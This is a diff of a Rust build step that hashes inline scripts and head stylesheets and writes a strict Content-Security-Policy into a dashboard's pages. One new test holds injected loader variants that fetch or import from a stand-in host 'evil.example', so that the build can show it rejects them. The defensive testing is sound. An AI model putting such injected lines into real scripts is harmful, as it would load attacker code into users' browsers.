@@ -1,16 +1,19 @@
 //! Build-time security step for `dist/`: computes the SHA-256 hashes of the inline scripts the
-//! build writes (Trunk's loader, the pre-rendered page's head script) and refuses any other,
+//! build writes (Trunk's loader or the publish step's, the pre-rendered page's head script) and
+//! refuses any other, and of the stylesheet the publish step writes into `<head>`,
 //! writes the strict Content-Security-Policy into `index.html` (as a `<meta>`, for hosts that
 //! cannot set headers) and into example server configurations (`_headers`,
 //! `nginx.conf.example`), and refuses JavaScript that evaluates strings (`eval(`, `new Function`)
-//! and markup a strict policy would block (inline handlers and styles), read by an HTML parser
-//! so that only tags count, never text.
+//! and markup a strict policy would block (inline handlers, style attributes, `<style>` outside
+//! `<head>`), read by an HTML parser so that only tags count, never text.
 
 use std::fmt::Write as _;
 
 use base64::engine::general_purpose::STANDARD as BASE64;
 use base64::Engine as _;
 use sha2::{Digest, Sha256};
+
+use super::publish::keeping_loader;
 
 /// Why the step failed.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -55,8 +58,8 @@ impl std::fmt::Display for CspError {
     }
 }
 
-/// The hash a Content-Security-Policy names a script by: base64 (standard, padded) of the
-/// SHA-256 of its text, as in `'sha256-…'`.
+/// The hash a Content-Security-Policy names a script (or a stylesheet) by: base64 (standard,
+/// padded) of the SHA-256 of its text, as in `'sha256-…'`.
 pub fn script_hash(script: &str) -> String {
     BASE64.encode(Sha256::digest(script.as_bytes()))
 }
@@ -84,25 +87,45 @@ pub fn inline_scripts(html: &str) -> Vec<String> {
         .collect()
 }
 
-/// Whether `script` is Trunk's loader for some module: [`DEV_LOADER`] with its module path
-/// (`/eu-iom-dashboard`) replaced, in both places, by the same other path (a public URL and a
-/// hashed name: `/sub/dash/eu-iom-staff-b083a0b83250d22e`).
-fn is_trunk_loader(script: &str) -> bool {
-    let pieces: Vec<&str> = DEV_LOADER.split("/eu-iom-dashboard").collect();
-    let [head, middle, tail] = pieces.as_slice() else { return false };
-    let Some(paths) = script.strip_prefix(*head).and_then(|rest| rest.strip_suffix(*tail)) else { return false };
-    let Some((module, wasm)) = paths.split_once(*middle) else { return false };
-    module == wasm && !module.is_empty() && module.chars().all(|c| c.is_ascii_alphanumeric() || "/-_.".contains(c))
+/// Trunk's loader for the module at `module` (a path without `.js`: a public URL and a hashed
+/// name, `/sub/dash/eu-iom-dashboard-b083a0b83250d22e`): [`DEV_LOADER`] with its module path
+/// replaced, in both places.
+pub fn trunk_loader(module: &str) -> String {
+    DEV_LOADER.replace("/eu-iom-dashboard", module)
 }
 
-/// Whether the build wrote `script`: Trunk's loader or the pre-rendered page's head script.
+/// The module path a loader imports (`import … from '<module>.js'`), when it is a plain path.
+pub fn loader_module(script: &str) -> Option<String> {
+    let module = script.split(" from '").nth(1)?.split(".js';").next()?;
+    let plain = !module.is_empty() && module.chars().all(|c| c.is_ascii_alphanumeric() || "/-_.".contains(c));
+    plain.then(|| module.to_string())
+}
+
+/// Whether the build wrote `script`: Trunk's loader, the one the publish step writes in its
+/// place ([`crate::site::publish::KEEPING_LOADER`]) or the pre-rendered page's head script.
 pub fn is_build_script(script: &str) -> bool {
-    script == crate::prerender::HEAD_SCRIPT || is_trunk_loader(script)
+    script == crate::prerender::HEAD_SCRIPT
+        || loader_module(script).is_some_and(|module| script == trunk_loader(&module) || script == keeping_loader(&module))
+}
+
+/// Whether an element is a `<style>` in `<head>`: the stylesheet the publish step wrote into
+/// the page ([`crate::site::publish::inline_links`]). The page's texts are escaped and live in
+/// `<body>`, so nothing else can put one there.
+fn is_head_style(element: &scraper::ElementRef<'_>) -> bool {
+    element.value().name() == "style"
+        && element.parent().and_then(scraper::ElementRef::wrap).is_some_and(|parent| parent.value().name() == "head")
+}
+
+/// The text of every `<style>` in a page's `<head>`, as the browser hashes it.
+pub fn head_styles(html: &str) -> Vec<String> {
+    let page = scraper::Html::parse_document(html);
+    elements(&page).filter(is_head_style).map(|e| e.text().collect()).collect()
 }
 
 /// Checks a page for markup a strict policy blocks: `on…` handler and `style` attributes,
-/// `<style>` elements and `javascript:` addresses. The page is read by an HTML parser, so only
-/// attribute names inside tags count: a text that mentions ` onclick=` (escaped) is text.
+/// `<style>` elements outside `<head>` and `javascript:` addresses. The page is read by an HTML
+/// parser, so only attribute names inside tags count: a text that mentions ` onclick=` (escaped)
+/// is text.
 ///
 /// # Errors
 /// [`CspError::Inline`] naming the first one found and `page`.
@@ -110,8 +133,8 @@ pub fn check_inline(html: &str, page: &str) -> Result<(), CspError> {
     let parsed = scraper::Html::parse_document(html);
     for element in elements(&parsed) {
         let tag = element.value().name();
-        if tag == "style" {
-            return Err(CspError::Inline { found: format!("{page} has a <style> element") });
+        if tag == "style" && !is_head_style(&element) {
+            return Err(CspError::Inline { found: format!("{page} has a <style> element outside <head>") });
         }
         for (name, value) in element.value().attrs() {
             let address = matches!(name, "href" | "src" | "action" | "formaction" | "data");
@@ -138,20 +161,47 @@ pub fn build_script_hashes(html: &str, page: &str) -> Result<Vec<String>, CspErr
         .collect()
 }
 
-/// The policy: everything from this origin only, WebAssembly compilation allowed, the inline
-/// loader allowed by its hash, no inline styles, no plug-ins, the service worker from this
-/// origin only, framing only by `frame_ancestors`.
-pub fn policy(script_hashes: &[String], connect: &[String], frame_ancestors: Option<&str>) -> String {
-    let mut script = String::from("'self' 'wasm-unsafe-eval'");
-    for hash in script_hashes {
-        let _ = write!(script, " 'sha256-{hash}'");
+/// The hashes of the inline code a page may run: its scripts and its stylesheets.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Hashes {
+    /// Of its inline scripts.
+    pub scripts: Vec<String>,
+    /// Of its `<style>` elements.
+    pub styles: Vec<String>,
+}
+
+impl Hashes {
+    /// Adds the hashes of `other` not already here.
+    pub fn extend(&mut self, other: Hashes) {
+        for (mine, theirs) in [(&mut self.scripts, other.scripts), (&mut self.styles, other.styles)] {
+            for hash in theirs {
+                if !mine.contains(&hash) {
+                    mine.push(hash);
+                }
+            }
+        }
     }
+}
+
+/// The policy: everything from this origin only, WebAssembly compilation allowed, the inline
+/// loader and stylesheet allowed by their hashes, no inline style attributes, no plug-ins, the
+/// service worker from this origin only, framing only by `frame_ancestors`.
+pub fn policy(hashes: &Hashes, connect: &[String], frame_ancestors: Option<&str>) -> String {
+    let sources = |first: &str, hashes: &[String]| {
+        let mut out = first.to_string();
+        for hash in hashes {
+            let _ = write!(out, " 'sha256-{hash}'");
+        }
+        out
+    };
+    let script = sources("'self' 'wasm-unsafe-eval'", &hashes.scripts);
+    let style = sources("'self'", &hashes.styles);
     let mut connect_src = String::from("'self'");
     for origin in connect {
         let _ = write!(connect_src, " {origin}");
     }
     let mut out = format!(
-        "default-src 'self'; script-src {script}; style-src 'self'; img-src 'self' data: blob:; connect-src {connect_src}; \
+        "default-src 'self'; script-src {script}; style-src {style}; img-src 'self' data: blob:; connect-src {connect_src}; \
          font-src 'self'; worker-src 'self'; object-src 'none'; base-uri 'self'; form-action 'self'"
     );
     if let Some(ancestors) = frame_ancestors {
@@ -162,7 +212,9 @@ pub fn policy(script_hashes: &[String], connect: &[String], frame_ancestors: Opt
 
 /// The loader Trunk writes into `index.html` when it serves the app for development (`make
 /// serve`: `trunk serve --filehash false` at `/`, no reload script): the release build's loader
-/// with unhashed file names. `tests/e2e/specs/trust.test.mjs` checks it against the release build.
+/// with unhashed file names. `tests/e2e/specs/trust.test.mjs` checks it against the release
+/// build's staff page (the dashboard's is replaced by `publish`, which fails on a loader it does
+/// not know).
 pub const DEV_LOADER: &str = "\nimport init, * as bindings from '/eu-iom-dashboard.js';\nconst wasm = await init({ module_or_path: '/eu-iom-dashboard_bg.wasm' });\n\n\nwindow.wasmBindings = bindings;\n\n\ndispatchEvent(new CustomEvent(\"TrunkApplicationStarted\", {detail: {wasm}}));\n\n";
 
 /// Headers every response carries besides the policy, in the release's example configurations
@@ -174,7 +226,7 @@ pub const OTHER_HEADERS: [(&str, &str); 2] =
 /// development loader, no other data origins and framing by the page's own origin only (the
 /// release default).
 pub fn serve_policy() -> String {
-    policy(&[script_hash(DEV_LOADER)], &[], Some("'self'"))
+    policy(&Hashes { scripts: vec![script_hash(DEV_LOADER)], styles: Vec::new() }, &[], Some("'self'"))
 }
 
 /// The `headers` line of `Trunk.toml`'s `[serve]` section: the development server's policy and
@@ -236,13 +288,14 @@ pub fn check_javascript(file: &str, text: &str) -> Result<(), CspError> {
 pub const PAGES: [&str; 2] = ["index.html", "staff.html"];
 
 /// Secures one page: refuses what a strict policy would block, and puts the policy allowing its
-/// own inline scripts into it as a `<meta>`; returns the page and those scripts' hashes.
+/// own inline scripts and stylesheet into it as a `<meta>`; returns the page and those hashes.
 ///
 /// # Errors
 /// [`CspError::Inline`] naming what the page `name` contains.
-pub fn secure_page(name: &str, html: &str, connect: &[String]) -> Result<(String, Vec<String>), CspError> {
+pub fn secure_page(name: &str, html: &str, connect: &[String]) -> Result<(String, Hashes), CspError> {
     check_inline(html, name)?;
-    let hashes = build_script_hashes(html, name)?;
+    let hashes =
+        Hashes { scripts: build_script_hashes(html, name)?, styles: head_styles(html).iter().map(|style| script_hash(style)).collect() };
     let meta = policy(&hashes, connect, None);
     Ok((with_meta(html, &meta), hashes))
 }
@@ -327,10 +380,10 @@ mod tests {
 
     #[test]
     fn the_policy_is_strict() {
-        let p = policy(&["abc=".into()], &[], Some("'self' https://intranet.example"));
+        let p = policy(&Hashes { scripts: vec!["abc=".into()], styles: vec!["def=".into()] }, &[], Some("'self' https://intranet.example"));
         assert_eq!(
             p,
-            "default-src 'self'; script-src 'self' 'wasm-unsafe-eval' 'sha256-abc='; style-src 'self'; img-src 'self' data: blob:; \
+            "default-src 'self'; script-src 'self' 'wasm-unsafe-eval' 'sha256-abc='; style-src 'self' 'sha256-def='; img-src 'self' data: blob:; \
              connect-src 'self'; font-src 'self'; worker-src 'self'; object-src 'none'; base-uri 'self'; form-action 'self'; frame-ancestors 'self' https://intranet.example"
         );
         assert!(!p.contains("unsafe-inline") && !p.contains("'unsafe-eval'"));
@@ -401,6 +454,30 @@ mod tests {
             assert!(secure_alone("other", &page(other)).is_err(), "{other} must fail the build, not be hashed");
         }
         assert!(secure_alone("data", &page("<script type=\"application/ld+json\">{}</script>")).is_ok(), "data blocks never run");
+    }
+
+    #[test]
+    fn the_loader_publish_writes_is_the_builds_and_no_other_is() {
+        let module = "/sub/dash/eu-iom-dashboard-b083a0b83250d22e";
+        let keeping = keeping_loader(module);
+        assert!(is_build_script(&keeping) && is_build_script(&trunk_loader(module)) && is_build_script(LOADER));
+        assert_eq!(trunk_loader(module), LOADER);
+        // The same loader for another module in one of its two places, or with a line added.
+        assert!(!is_build_script(&keeping.replacen(module, "/sub/dash/other-b083a0b83250d22e", 1)));
+        assert!(!is_build_script(&format!("{keeping}fetch('https://evil.example/');\n")));
+        assert!(!is_build_script(&keeping.replace(module, "/x'); import('https://evil.example/x")));
+    }
+
+    #[test]
+    fn the_stylesheet_in_head_is_allowed_by_its_hash_and_no_other_style_is() {
+        let css = "body{color:red}";
+        let html = page("<p>x</p>").replace("<title>", &format!("<style>{css}</style>\n    <title>"));
+        let (secured, hashes) = secure_page("index.html", &html, &[]).unwrap();
+        assert_eq!(hashes.styles, vec![script_hash(css)]);
+        assert!(secured.contains(&format!("style-src 'self' 'sha256-{}';", script_hash(css))), "{secured}");
+        // In the body (where the page's texts are), a <style> is refused as before.
+        let body = page("<style>p{}</style>");
+        assert!(matches!(secure_alone("body", &body), Err(CspError::Inline { .. })));
     }
 
     #[test]
